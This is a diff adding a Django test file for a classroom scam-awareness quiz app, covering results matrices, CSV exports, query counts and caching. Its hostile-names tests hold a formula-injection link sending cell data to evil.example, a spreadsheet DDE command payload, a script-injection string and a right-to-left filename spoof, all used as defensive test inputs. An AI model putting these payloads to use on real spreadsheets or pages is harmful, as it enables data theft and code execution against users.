@@ -1,0 +1,479 @@
+"""Class results: the matrix, per-scenario distributions, one student's answers, the CSV
+exports, query counts at two sizes, and hostile display names."""
+
+import csv
+import io
+import re
+import unicodedata
+
+import pytest
+from django.core.cache import cache
+from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
+
+from awareness.models import User
+from quizzes.csv_export import safe_cell
+from quizzes.models import Answer, Attempt, Membership
+from quizzes.selectors.classes import classroom_results, sort_rows
+from quizzes.services.publishing import scenario_publish, scenario_replace_steps
+from tests.factories import make_student, make_teacher
+from tests.quizzes.test_classes_support import (
+    STEPS,
+    add_student,
+    assign,
+    bulk_attempts,
+    make_class,
+    make_scenario,
+    play,
+    tomorrow,
+)
+
+pytestmark = pytest.mark.django_db
+
+
+def without_tokens(content: bytes) -> str:
+    """The page without its CSRF tokens (masked differently in every response)."""
+    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", content.decode("utf-8-sig"))
+
+
+def read_csv(response) -> list[list[str]]:
+    body = response.content
+    assert body.startswith("\ufeff".encode()), "CSV must start with a UTF-8 byte-order mark"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+@pytest.fixture
+def lesson():
+    """A class of four on one scenario: safe, partly harmed, harmed (twice), not started."""
+    classroom = make_class(name="7B")
+    scenario = make_scenario("Likes for money")
+    assign(classroom, scenario)
+    students = {
+        name: add_student(classroom, display_name=name) for name in ("Ana", "Bo", "Cy", "Di")
+    }
+    play(scenario, students["Ana"], "safe")
+    play(scenario, students["Bo"], "partly-harmed")
+    play(scenario, students["Cy"], "harmed")
+    play(scenario, students["Cy"], "safe")  # a retry: the first finished attempt counts
+    play(scenario, students["Di"], "in-progress")
+    return classroom, scenario, students
+
+
+def test_the_matrix_shows_status_outcome_and_safe_choice_rate(client, lesson):
+    classroom, scenario, students = lesson
+    client.force_login(classroom.teacher)
+    response = client.get(classroom.get_absolute_url())
+    results = response.context["results"]
+    cells = {row.label: row.cells[0] for row in results.rows}
+    assert {k: (c.status, c.outcome, c.safe_percent) for k, c in cells.items()} == {
+        "Ana": ("completed", "safe", 100),
+        "Bo": ("completed", "partly-harmed", 50),
+        "Cy": ("completed", "harmed", 0),
+        "Di": ("in-progress", "", 0),
+    }
+    assert cells["Cy"].attempts == 2
+    page = response.content.decode()
+    assert "Partly harmed" in page and "(2 attempts)" in page and "In progress" in page
+
+
+def test_a_student_who_has_not_started_shows_as_not_started(client, lesson):
+    classroom, scenario, students = lesson
+    add_student(classroom, display_name="Eve")
+    client.force_login(classroom.teacher)
+    results = client.get(classroom.get_absolute_url()).context["results"]
+    [eve] = [r for r in results.rows if r.label == "Eve"]
+    assert eve.cells[0].status == "not-started" and eve.safe_rate is None
+    assert "Not started" in client.get(classroom.get_absolute_url()).content.decode()
+
+
+def test_per_scenario_completion_outcomes_and_choice_distribution(client, lesson):
+    classroom, scenario, students = lesson
+    client.force_login(classroom.teacher)
+    response = client.get(classroom.get_absolute_url())
+    [stats] = response.context["results"].scenarios
+    assert (stats.students, stats.completed, stats.in_progress, stats.not_started) == (4, 3, 1, 0)
+    assert dict(stats.outcomes) == {"safe": 1, "partly-harmed": 1, "harmed": 1}
+    d1, s1, d2 = stats.steps
+    assert [(o.key, o.count) for o in d1.options] == [("a", 1), ("b", 2), ("c", 1)]
+    assert d1.answered == 4
+    # "b" (Bo, Di) is the most-picked unsafe choice; Cy's retry does not count twice.
+    assert d1.top_unsafe.key == "b" and d1.top_unsafe.text == "Tell me more!"
+    assert [(o.key, o.count) for o in d2.options] == [("a", 1), ("b", 1)]
+    assert s1.kind == "spot" and [(o.key, o.count) for o in s1.options] == [("f1", 1), ("n1", 0)]
+    page = response.content.decode()
+    assert "Most-picked unsafe choice" in page
+    assert "Tell me more!" in page and "answered by 4 students" in page
+    # Text equivalents of the bars for screen readers: the counts are in the page as text,
+    # the SVG drawings are hidden from assistive technology.
+    assert "Safe: 1" in page and "Harmed: 1" in page and "In progress: 1" in page
+    assert page.count('<svg class="dist-bar"') == 3 + 2 + 2
+    for svg in page.split("<svg")[1:]:
+        assert 'aria-hidden="true"' in svg.split(">")[0]
+
+
+def test_no_unsafe_choice_is_pointed_out_when_nobody_picked_one(client):
+    classroom = make_class()
+    scenario = make_scenario()
+    assign(classroom, scenario)
+    play(scenario, add_student(classroom, display_name="Ana"), "safe")
+    client.force_login(classroom.teacher)
+    response = client.get(classroom.get_absolute_url())
+    assert response.context["results"].scenarios[0].steps[0].top_unsafe is None
+    assert "Most-picked unsafe choice" not in response.content.decode()
+
+
+def test_answers_on_an_older_version_are_labelled_from_that_version(client):
+    classroom = make_class()
+    scenario = make_scenario()
+    assign(classroom, scenario)
+    student = add_student(classroom, display_name="Ana")
+    play(scenario, student, "harmed")  # picked "c" on version 1
+    steps = [dict(step) for step in STEPS]
+    steps[1] = {**steps[1], "choices": [c for c in steps[1]["choices"] if c["key"] != "c"]}
+    scenario_replace_steps(scenario=scenario, steps=steps)
+    scenario_publish(scenario=scenario)
+    client.force_login(classroom.teacher)
+    [stats] = client.get(classroom.get_absolute_url()).context["results"].scenarios
+    d1 = stats.steps[0]
+    assert [(o.key, o.text, o.count) for o in d1.options] == [
+        ("a", "Ignore and block.", 0),
+        ("b", "Tell me more!", 0),
+        ("c", "Send my ID card.", 1),
+    ]
+
+
+def test_sorting_the_matrix(lesson):
+    classroom, scenario, students = lesson
+    results = classroom_results(classroom)
+    column = f"a{results.assignments[0].pk}"
+    assert sort_rows(results, "-name") == ("name", True)
+    assert [r.label for r in results.rows] == ["Di", "Cy", "Bo", "Ana"]
+    sort_rows(results, column)
+    assert [r.label for r in results.rows] == ["Di", "Cy", "Bo", "Ana"]
+    sort_rows(results, f"-{column}")
+    assert [r.label for r in results.rows] == ["Ana", "Bo", "Cy", "Di"]
+    sort_rows(results, "rate")
+    assert [r.label for r in results.rows][-1] == "Ana"
+    sort_rows(results, "-completed")
+    assert [r.label for r in results.rows][-1] == "Di"
+    assert sort_rows(results, "nonsense") == ("name", False)
+
+
+@pytest.mark.parametrize("sort", ["name", "-name", "rate", "-completed", "a1", "-a999", "💥", ""])
+def test_sort_links_mark_the_sorted_column(client, lesson, sort):
+    classroom = lesson[0]
+    client.force_login(classroom.teacher)
+    response = client.get(classroom.get_absolute_url(), {"sort": sort})
+    assert response.status_code == 200
+    assert response.content.decode().count("aria-sort=") == 1
+
+
+def test_the_student_page_lists_each_attempt_and_answer(client, lesson):
+    classroom, scenario, students = lesson
+    client.force_login(classroom.teacher)
+    url = reverse("quizzes:class-student", args=[classroom.pk, students["Cy"].pk])
+    response = client.get(url)
+    page = response.content.decode()
+    attempts = response.context["attempts"]
+    assert [(d.number, d.attempt.outcome) for d in attempts] == [(1, "harmed"), (2, "safe")]
+    assert [a.text for a in attempts[0].answers] == ["Send my ID card.", "Pay the deposit."]
+    assert [a.text for a in attempts[1].answers] == ["Ignore and block.", "Pay 500 now"]
+    assert "She asks for a 500 deposit. What now?" in page
+    assert "Send my ID card." in page and "attempt 2" in page
+
+
+def test_the_student_page_leaves_out_unassigned_scenarios(client, lesson):
+    classroom, scenario, students = lesson
+    private = make_scenario("Played at home")
+    play(private, students["Ana"], "harmed")
+    client.force_login(classroom.teacher)
+    url = reverse("quizzes:class-student", args=[classroom.pk, students["Ana"].pk])
+    assert "Played at home" not in client.get(url).content.decode()
+    csv_text = client.get(reverse("quizzes:class-export-answers-csv", args=[classroom.pk]))
+    assert "Played at home" not in csv_text.content.decode("utf-8-sig")
+
+
+def test_a_student_of_another_class_has_no_page_here(client, lesson):
+    classroom = lesson[0]
+    outsider = add_student(make_class())
+    client.force_login(classroom.teacher)
+    url = reverse("quizzes:class-student", args=[classroom.pk, outsider.pk])
+    assert client.get(url).status_code == 404
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+
+def test_results_csv_has_one_row_per_student_and_scenario(client, lesson):
+    classroom, scenario, students = lesson
+    assign(classroom, make_scenario("Fake refund"))
+    client.force_login(classroom.teacher)
+    response = client.get(reverse("quizzes:class-export-csv", args=[classroom.pk]))
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert "attachment" in response["Content-Disposition"]
+    rows = read_csv(response)
+    header, body = rows[0], rows[1:]
+    assert header[:6] == ["Student", "Scenario", "Language", "Due date", "Status", "Outcome"]
+    assert len(body) == 4 * 2
+    by_key = {(r[0], r[1]): r for r in body}
+    assert by_key[("Bo", "Likes for money")][4:9] == ["Finished", "Partly harmed", "1", "2", "50"]
+    assert by_key[("Cy", "Likes for money")][11] == "2"  # attempts
+    assert by_key[("Ana", "Fake refund")][4] == "Not started"
+
+
+def test_answers_csv_has_one_row_per_answer(client, lesson):
+    classroom, scenario, students = lesson
+    client.force_login(classroom.teacher)
+    response = client.get(reverse("quizzes:class-export-answers-csv", args=[classroom.pk]))
+    rows = read_csv(response)
+    body = rows[1:]
+    assert len(body) == Answer.objects.count() == 9
+    cy = [r for r in body if r[0] == "Cy"]
+    assert [(r[2], r[5], r[7], r[8]) for r in cy] == [
+        ("1", "d1", "Send my ID card.", "no"),
+        ("1", "d2", "Pay the deposit.", "no"),
+        ("2", "d1", "Ignore and block.", "yes"),
+        ("2", "s1", "Pay 500 now", "yes"),
+    ]
+
+
+def test_chinese_names_survive_the_csv(client):
+    classroom = make_class(name="七年级二班")
+    scenario = make_scenario("兼职刷单", language="zh-hans")
+    assign(classroom, scenario)
+    play(scenario, add_student(classroom, display_name="王小明"), "safe")
+    client.force_login(classroom.teacher)
+    rows = read_csv(client.get(reverse("quizzes:class-export-csv", args=[classroom.pk])))
+    assert rows[1][:2] == ["王小明", "兼职刷单"]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("\u200f=1", "'\u200f=1"),  # a right-to-left mark in front
+        ("\u202e=1", "'=1"),  # an override character is dropped, then neutralised
+        ("Ana", "Ana"),
+        ("a=b", "a=b"),
+        ("王小明", "王小明"),
+        (5, "5"),
+        (None, ""),
+    ],
+)
+def test_cells_are_neutralised_against_formula_injection(value, expected):
+    assert safe_cell(value) == expected
+
+
+@given(st.text())
+def test_no_text_comes_out_of_a_cell_as_a_formula(text):
+    cell = safe_cell(text)
+    visible = cell.lstrip()
+    visible = "".join(ch for ch in visible if unicodedata.category(ch) != "Cf")
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not visible.startswith(("=", "+", "-", "@")) or cell.startswith("'")
+    assert "\u202e" not in cell
+
+
+# --- hostile names -------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "<script>alert(1)</script>",
+    "\u202eevil\u202c gnp.exe",
+    "@cmd|' /C calc'!A0",
+]
+
+
+def test_hostile_display_names_are_escaped_on_the_page_and_neutralised_in_the_csv(client):
+    classroom = make_class(name="<b>class</b>")
+    scenario = make_scenario("=1+1 scenario")
+    assign(classroom, scenario)
+    for name in HOSTILE:
+        play(scenario, add_student(classroom, display_name=name), "harmed")
+    client.force_login(classroom.teacher)
+
+    page = client.get(classroom.get_absolute_url()).content.decode()
+    assert "<script>alert(1)</script>" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "<b>class</b>" not in page and "&lt;b&gt;class&lt;/b&gt;" in page
+    assert "<bdi>\u202eevil\u202c gnp.exe</bdi>" in page  # isolated from the text around it
+
+    for url in ("quizzes:class-export-csv", "quizzes:class-export-answers-csv"):
+        rows = read_csv(client.get(reverse(url, args=[classroom.pk])))
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
+                assert "\u202e" not in cell
+        names = {row[0] for row in rows[1:]}
+        assert "'" + HOSTILE[0] in names and "'" + HOSTILE[3] in names
+        assert {row[1] for row in rows[1:]} == {"'=1+1 scenario"}
+
+
+def test_a_5000_character_display_name_is_refused_without_an_error_page(client):
+    classroom = make_class()
+    student = make_student()
+    client.force_login(student)
+    for name in ("=" + "A" * 4999, "<script>" * 625):
+        response = client.post(
+            reverse("quizzes:join"), {"code": classroom.join_code, "display_name": name}
+        )
+        assert response.status_code == 400
+        assert "at most 60 characters" in response.content.decode()
+    student.refresh_from_db()
+    assert student.display_name == ""
+
+
+def test_long_names_wrap_instead_of_breaking_the_layout(client):
+    classroom = make_class()
+    assign(classroom, make_scenario())
+    add_student(classroom, display_name="W" * 60)
+    client.force_login(classroom.teacher)
+    page = client.get(classroom.get_absolute_url()).content.decode()
+    assert 'class="student-name"><bdi>' + "W" * 60 in page  # .student-name wraps anywhere
+
+
+def test_usernames_of_other_classes_are_never_shown(client):
+    classroom = make_class()
+    scenario = make_scenario()
+    assign(classroom, scenario)
+    other_teacher = make_teacher()
+    pupil = make_student("otter-2345", created_by=other_teacher)  # no display name
+    add_student(classroom, pupil)
+    mine = make_student("panda-7788", created_by=classroom.teacher)
+    add_student(classroom, mine)
+    play(scenario, pupil, "safe")
+    client.force_login(classroom.teacher)
+    for url in (
+        classroom.get_absolute_url(),
+        reverse("quizzes:class-export-csv", args=[classroom.pk]),
+        reverse("quizzes:class-export-answers-csv", args=[classroom.pk]),
+        reverse("quizzes:class-student", args=[classroom.pk, pupil.pk]),
+    ):
+        body = client.get(url).content.decode("utf-8-sig")
+        assert "otter-2345" not in body, url
+    page = client.get(classroom.get_absolute_url()).content.decode()
+    assert "Student 1" in page  # shown by number instead
+    assert "panda-7788" in page  # the teacher created that account and printed its slip
+
+
+# --- query counts --------------------------------------------------------------------------
+
+
+def _class_of(n_students: int, n_scenarios: int):
+    classroom = make_class()
+    scenarios = [make_scenario() for _ in range(n_scenarios)]
+    for scenario in scenarios:
+        assign(classroom, scenario)
+    students = [add_student(classroom, display_name=f"S{i}") for i in range(n_students)]
+    bulk_attempts(scenarios, students)
+    return classroom
+
+
+@pytest.mark.parametrize(
+    ("url_name", "cold", "warm"),
+    [
+        # user, class, the cache stamp (students' names, assignments and the count and last
+        # change of the class's attempts in one statement); on a cache miss also memberships
+        # with students, assignments with scenarios, attempts, the versions involved and the
+        # answers that count. (The session comes from the cache.)
+        ("quizzes:class-detail", 8, 3),
+        # user, class; memberships+students, assignments+scenarios, attempts.
+        ("quizzes:class-export-csv", 5, 5),
+        # user, class; memberships, assignments, attempts, versions, answers.
+        ("quizzes:class-export-answers-csv", 7, 7),
+    ],
+)
+def test_results_pages_use_the_same_queries_at_any_size(
+    client, django_assert_num_queries, url_name, cold, warm
+):
+    small = _class_of(1, 1)
+    big = _class_of(40, 20)
+    assert Attempt.objects.filter(scenario__assignments__classroom=big).count() > 800
+    for classroom in (small, big):
+        client.force_login(classroom.teacher)
+        url = reverse(url_name, args=[classroom.pk])
+        cache.clear()
+        client.get(reverse("quizzes:class-list"))  # the session back in the cache
+        with django_assert_num_queries(cold):
+            cold_response = client.get(url)
+        with django_assert_num_queries(warm):
+            warm_response = client.get(url)
+        assert cold_response.status_code == warm_response.status_code == 200
+        assert without_tokens(cold_response.content) == without_tokens(warm_response.content)
+    rows = read_csv(client.get(reverse("quizzes:class-export-csv", args=[big.pk])))
+    assert len(rows) == 1 + 40 * 20
+
+
+def test_the_student_page_uses_the_same_queries_at_any_size(client, django_assert_num_queries):
+    small = _class_of(1, 1)
+    big = _class_of(40, 20)
+    for classroom in (small, big):
+        client.force_login(classroom.teacher)
+        student = classroom.memberships.first().student
+        url = reverse("quizzes:class-student", args=[classroom.pk, student.pk])
+        client.get(url)
+        # user, class; memberships, assignments, attempts (the student's row);
+        # the student's attempts with versions; their answers.
+        with django_assert_num_queries(7):
+            assert client.get(url).status_code == 200
+
+
+# --- the cached results --------------------------------------------------------------------
+
+
+def matrix_text(client, classroom) -> str:
+    return without_tokens(client.get(classroom.get_absolute_url()).content)
+
+
+def test_the_cached_results_change_as_soon_as_their_inputs_do(client, lesson):
+    from quizzes.services.classes import assignment_save
+
+    classroom, scenario, students = lesson
+    client.force_login(classroom.teacher)
+    eve = add_student(classroom, display_name="Eve")
+    page = matrix_text(client, classroom)
+    assert "Eve" in page and matrix_text(client, classroom) == page  # served from the cache
+
+    play(scenario, eve, "harmed")  # a student answers
+    page = matrix_text(client, classroom)
+    assert client.get(classroom.get_absolute_url()).context["results"] is None  # cached
+    assert [r.cells[0].outcome for r in classroom_results(classroom).rows if r.label == "Eve"] == [
+        "harmed"
+    ]
+    eve_row = next(line for line in page.split("<tr>") if "Eve</bdi>" in line)
+    assert "Harmed" in eve_row
+
+    User.objects.filter(pk=eve.pk).update(display_name="Evelyn")  # renamed elsewhere
+    assert "Evelyn" in matrix_text(client, classroom)
+
+    assignment_save(
+        classroom=classroom, teacher=classroom.teacher, scenario=scenario, due_date=tomorrow()
+    )
+    assert "due " in matrix_text(client, classroom)
+
+    Membership.objects.filter(student=eve).delete()  # removed by any means
+    assert "Evelyn" not in matrix_text(client, classroom)
+
+    steps = [dict(step) for step in STEPS]
+    steps[1] = {**steps[1], "prompt": "A brand-new question?"}
+    scenario_replace_steps(scenario=scenario, steps=steps)
+    scenario_publish(scenario=scenario)  # republished
+    assert "A brand-new question?" in matrix_text(client, classroom)
+
+
+def test_each_language_and_sort_has_its_own_cached_page(client, lesson):
+    classroom = lesson[0]
+    client.force_login(classroom.teacher)
+    by_name = matrix_text(client, classroom)
+    reverse_page = client.get(classroom.get_absolute_url(), {"sort": "-name"}).content.decode()
+    assert by_name != reverse_page
+    client.cookies.load({"django_language": "zh-hans"})
+    chinese = matrix_text(client, classroom)
+    assert '<html lang="zh-hans">' in chinese and chinese != by_name
